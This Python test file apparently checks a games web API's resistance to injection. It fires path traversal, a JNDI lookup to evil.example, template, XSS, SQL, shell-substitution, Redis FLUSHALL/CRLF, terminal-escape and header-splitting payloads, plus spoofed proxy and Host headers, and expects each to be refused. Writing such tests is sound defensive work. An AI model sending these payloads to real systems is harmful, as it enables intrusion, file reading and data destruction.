"""Attacks with texts that mean something to a part behind: paths, headers, scripts, logs."""

from __future__ import annotations

from urllib.parse import quote

from tests.attacks.harness import FOUR, Target, attack, attacks, check_refusal, expect

TEXTS = {
    "a path upwards": "../../etc/passwd",
    "a NUL": "a\x00b",
    "a template": "{{7*7}}",
    "another template": "${7*7}#{7*7}<%=7*7%>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a script": "<script>alert(1)</script>",
    "a quote of SQL": "' OR '1'='1",
    "a command": "$(touch /tmp/pwned);`id`|id",
    "a command of the store": "x\r\nFLUSHALL\r\n",
    "a key of the store": "x:record",
    "a pattern of the store": "*",
    "a Lua string": "']] redis.call('FLUSHALL') --[[",
    "a format": "%s%n{0.__class__}",
    "an escape of a terminal": "\x1b]0;pwned\x07\x1b[2J",
    "a text turned around": "\u202egnp.exe",
}


def _gives_nothing_away(target: Target, text: str, reply_text: str, headers: str) -> None:
    expect("Traceback" not in reply_text, "a traceback")
    expect("root:" not in reply_text, "a file of the machine")
    expect("49" not in reply_text or "7*7" not in text, "a template was filled in")
    expect("pwned" not in headers, "it reaches a header")
    expect(target.call("GET", "/v1/games").status_code == 200, "the store was changed")


@attacks("injection", "as the id of a game:", TEXTS)
def as_id(target: Target, text: str) -> None:
    reply = target.call("GET", f"/v1/games/{quote(text, safe='')}")
    check_refusal(reply, 400, 404)
    _gives_nothing_away(target, text, reply.text, str(reply.headers))


@attacks("injection", "as a move and a name:", TEXTS)
def as_value(target: Target, text: str) -> None:
    game = target.new_game()
    reply = target.call("POST", f"{game}/moves", {"move": text}, headers={"If-Match": '"0"'})
    check_refusal(reply, 422)
    _gives_nothing_away(target, text, reply.text, str(reply.headers))
    named = target.call("POST", "/v1/games", {"players": [{"name": text}]})
    expect(named.status_code in {201, 422}, f"{named.status_code} {named.text[:200]}")
    expect("Traceback" not in named.text, "a traceback")


HEADERS = {
    "If-Match": '"0", *',
    "If-None-Match": 'W/"0", "x" * 100',
    "Prefer": "wait=99999999999",
    "Last-Event-ID": "-1",
    "Idempotency-Key": "a" * 5000,
    "Accept": "../../etc/passwd",
    "Content-Type": "application/json; charset=../../x",
    "Range": "bytes=0-,0-,0-,0-,0-",
    "Cookie": "session=" + "A" * 4000,
}


@attacks("injection", "as a header", {name: (name, text) for name, text in HEADERS.items()})
def as_header(target: Target, case: tuple[str, str]) -> None:
    name, text = case
    game = target.new_game()
    reply = target.call("GET", game, headers={name: text})
    expect(reply.status_code < 500, f"{reply.status_code}")
    played = target.call(
        "POST", f"{game}/moves", {"move": "x"}, headers={"If-Match": '"0"', name: text}
    )
    expect(400 <= played.status_code < 500, f"{played.status_code}")


@attacks(
    "injection",
    "headers of a proxy that is none:",
    {
        name: name
        for name in (
            "X-Forwarded-Host",
            "X-Forwarded-Prefix",
            "X-Forwarded-For",
            "Forwarded",
            "SCRIPT_NAME",
            "Script-Name",
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-HTTP-Method-Override",
        )
    },
)
def proxy_header(target: Target, name: str) -> None:
    headers = {name: "DELETE" if name.endswith("Override") else "/evil"}
    made = target.call("POST", "/v1/games", FOUR, headers=headers)
    expect(made.status_code == 201, f"{made.status_code}")
    expect(made.headers["Location"].startswith("/v1/games/"), made.headers["Location"])


@attack("injection", "a foreign name of the service, without a key")
def rebinding(target: Target) -> None:
    headers = {"Host": "evil.example", "Origin": "http://evil.example"}
    reply = target.call("POST", "/v1/games", FOUR, key=None, headers=headers)
    check_refusal(reply, 401, 421, 429)
    expect("Access-Control-Allow-Origin" not in reply.headers, "the page may read it")


@attack("injection", "a line of its own in a header of the reply")
def split(target: Target) -> None:
    reply = target.send(
        b"GET /v1/games/a%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\nHost: localhost\r\n"
        b"Authorization: Bearer " + target.keys[0].encode() + b"\r\n\r\n"
    )
    expect(b"\r\nSet-Cookie" not in reply, "the reply has the header")


@attack("injection", "replies cannot be taken for something else, nor framed")
def sniffing(target: Target) -> None:
    for path in ("/docs/", "/healthz", "/v1/games", "/nowhere"):
        headers = target.call("GET", path).headers
        expect(headers.get("X-Content-Type-Options") == "nosniff", f"{path} may be sniffed")
        policy = headers.get("Content-Security-Policy", "")
        expect("frame-ancestors 'none'" in policy, f"{path} may be framed")
